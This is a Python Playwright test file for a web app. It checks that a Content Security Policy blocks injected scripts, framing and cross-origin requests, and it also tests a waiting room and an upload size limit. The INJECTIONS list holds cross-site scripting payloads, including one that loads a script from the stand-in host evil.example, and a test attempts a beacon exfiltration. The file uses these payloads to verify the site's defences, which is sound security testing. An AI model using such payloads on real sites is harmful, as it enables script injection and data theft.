"""What the public meets: a page that runs no script but its own, and a server that is full."""

import pytest
from app_page import App
from app_server import Server
from playwright.sync_api import expect
from visitors import Page

#: Ways in which a text that became markup would run a script; each leaves its mark if it does.
INJECTIONS = [
    "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
    " document.body.append(s)",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
    "document.body.insertAdjacentHTML('beforeend',"
    " '<iframe srcdoc=\"<script>parent.ran = 1</script>\"></iframe>')",
    "const a = document.createElement('a'); a.href = 'javascript:void(window.ran = 1)';"
    " document.body.append(a); a.click()",
    "setTimeout('window.ran = 1')",
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    " document.body.append(s)",
]


@pytest.fixture
def stranger(visits):
    """A page in which the policy may be broken."""
    page = visits.new_page()
    yield page
    page.close()


def test_no_script_that_got_into_the_page_is_run_and_nothing_typed_reaches_another_server(
    stranger, server
):
    app = App(stranger, server)
    for injection in INJECTIONS:
        with stranger.expect_console_message(lambda said: "Content Security Policy" in said.text):
            stranger.evaluate(f"() => {{ {injection} }}")
        assert stranger.evaluate("() => window.ran") is None
    app.click("Next step")
    assert app.step == 14
    # The same server by another name is another one to a browser.
    elsewhere = server.replace("localhost", "127.0.0.1") + "/_stcore/health"
    ask = f"() => fetch('{elsewhere}?text', {{mode: 'no-cors'}}).then(() => 1, () => 0)"
    asked = []
    stranger.on("request", lambda request: asked.append(request.url))
    assert not stranger.evaluate(ask)
    with stranger.expect_console_message(lambda said: "connect-src" in said.text):
        stranger.evaluate(f"() => {{ navigator.sendBeacon('{elsewhere}?text', 'text') }}")
    assert not [url for url in asked if "?text" in url]


def test_no_other_site_shows_the_app_in_a_frame(stranger, server):
    with stranger.expect_console_message(lambda said: "frame-ancestors" in said.text):
        stranger.set_content(f'<iframe src="{server}"></iframe>')
    assert "Streamlit" not in stranger.frames[1].content()


def test_whoever_waits_comes_in_by_themselves_and_uploads_no_more_than_there_is_room_for(
    page, tmp_path
):
    """Their browser asks again, without a script, for the address that they came by."""
    own = tmp_path / "own.toml"
    own.write_text("[visits]\npages = 1\n[files]\nsession_bytes = 3000\n", "utf-8")
    with Server(tmp_path / "log", environment={"TOKVIZ_LIMITS": str(own)}) as served:
        with Page(served):
            page.goto(f"{served.address}/?lane=course&step=3")
            expect(page.get_by_role("heading")).to_have_text("All places are taken")
            expect(page.get_by_role("main")).to_contain_text(
                "it tries again by itself every 10 seconds"
            )
        page.locator(".tv-corpus .chip").first.wait_for()
        assert page.evaluate("location.search") == "?lane=course&v=2&step=3"
        page.get_by_role("link", name="Open", exact=True).click()
        field = page.locator("input[type=file]")
        with page.expect_response("**/upload_file/**") as taken:
            field.set_input_files({"name": "a.txt", "mimeType": "", "buffer": b"a" * 2000})
        assert taken.value.status == 204
        said = page.get_by_text("The file was not taken: this page may upload 3 kB in all.")
        assert not said.count()
        with page.expect_response("**/upload_file/**") as refused:
            field.set_input_files({"name": "b.txt", "mimeType": "", "buffer": b"b" * 2000})
        assert refused.value.status == 413
        expect(said).to_be_visible()
        page.reload()
        with page.expect_response("**/upload_file/**") as taken:
            field.set_input_files({"name": "b.txt", "mimeType": "", "buffer": b"b" * 2000})
        assert taken.value.status == 204
    assert "Traceback" not in served.said(), served.said()
